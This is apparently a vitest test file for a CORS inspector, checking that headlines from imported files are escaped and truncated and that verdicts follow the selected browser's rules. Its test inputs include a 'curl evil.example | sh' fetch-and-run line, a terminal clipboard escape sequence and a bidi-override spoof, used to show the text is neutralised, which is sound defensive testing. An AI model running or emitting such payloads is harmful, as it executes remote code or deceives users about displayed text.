// An imported exchange's row shows the exporter's headline: words the file's author wrote, which
// the engine does not check. They must not read as something else (bidi overrides, line breaks)
// nor freeze the list (megabytes).

import { describe, expect, it } from 'vitest';
import type { ExchangeEntry } from '../store/entry.ts';
import { exportedHeadline, rowView } from './row-view.ts';

const RLO = '\u202e';

describe('exportedHeadline', () => {
  it.each([
    ['Origin not allowed', 'Origin not allowed'],
    [`Allowed ${RLO}dekcolb`, 'Allowed \\u202edekcolb'],
    ['Allowed\nRun curl evil.example | sh', 'Allowed\\x0aRun curl evil.example | sh'],
    ['\x1b]52;c;ZXZpbA==\x07ok', '\\x1b]52;c;ZXZpbA==\\x07ok'],
  ])('%j is shown as %j', (given, shown) => {
    expect(exportedHeadline(given)).toBe(shown);
  });

  it('cuts megabytes to one line of words', () => {
    const shown = exportedHeadline('x'.repeat(5_000_000));
    expect(shown.length).toBeLessThanOrEqual(201);
    expect(shown.endsWith('…')).toBe(true);
  });
});

describe('rowView of an imported exchange', () => {
  it('shows the exporter verdict with its headline made visible', () => {
    const entry = {
      id: 'x',
      captured: { id: 'x', source: 'import', pending: true, exchange: { request: { method: 'GET', headers: [] }, hops: [{ url: 'https://api.example/', response: null }] } },
    } as unknown as ExchangeEntry;
    const exported = { verdict: 'allowed', corsError: null, failedParameter: null, failedAt: null, headline: `OK${RLO}ti xif ot siht nuR` };
    const store = { importOrigin: () => ({ fileName: 'f.json', kind: 'bundle' as const, exported, rules: 'chromium', exporterRules: 'chromium', sentBy: 'chromium', verdictChange: null }) } as never;
    const analyzer = { diagnosis: () => { throw new Error('not asked'); }, explanation: () => { throw new Error('not asked'); } };
    const row = rowView(entry, analyzer, store);
    expect(row.verdict).toBe('allowed');
    expect(row.headline).toBe('OK\\u202eti xif ot siht nuR');
  });

  const blockedByChromium = {
    id: 'y',
    captured: {
      id: 'y',
      source: 'import',
      exchange: { request: { method: 'GET', headers: [] }, hops: [{ url: 'https://api.example/', response: null }], browserVerdict: { corsError: 'PreflightDisallowedRedirect', failedParameter: '' } },
    },
  } as unknown as ExchangeEntry;
  const firefoxSays = {
    diagnosis: () => ({ ok: true as const, value: { verdict: 'blocked', corsError: 'PreflightMissingAllowOriginHeader', failedParameter: null, preflight: { observed: 'sent' } } as never }),
    explanation: () => ({ ok: true as const, value: { headline: 'Preflight got 307' } as never }),
  };
  const exported = { verdict: 'blocked', corsError: 'PreflightDisallowedRedirect', failedParameter: '', failedAt: { hop: 0, phase: 'preflight' }, headline: 'Preflight redirected' };

  it("a Chromium bundle in the Firefox panel shows Firefox's verdict and headline, not the exporter's, and flags no disagreement with Chromium's own", () => {
    const store = { importOrigin: () => ({ fileName: 'f.json', kind: 'bundle' as const, exported, rules: 'firefox', exporterRules: 'chromium', sentBy: 'chromium', verdictChange: null }) } as never;
    expect(rowView(blockedByChromium, firefoxSays, store)).toMatchObject({ verdict: 'blocked', headline: 'Preflight got 307', disagrees: false });
  });

  it("judged by Chromium's rules, a verdict other than Chromium's own is still flagged", () => {
    const store = { importOrigin: () => ({ fileName: 'f.har', kind: 'har' as const, exported: null, rules: 'chromium', exporterRules: null, sentBy: 'chromium', verdictChange: null }) } as never;
    expect(rowView(blockedByChromium, firefoxSays, store)).toMatchObject({ disagrees: true });
  });
});
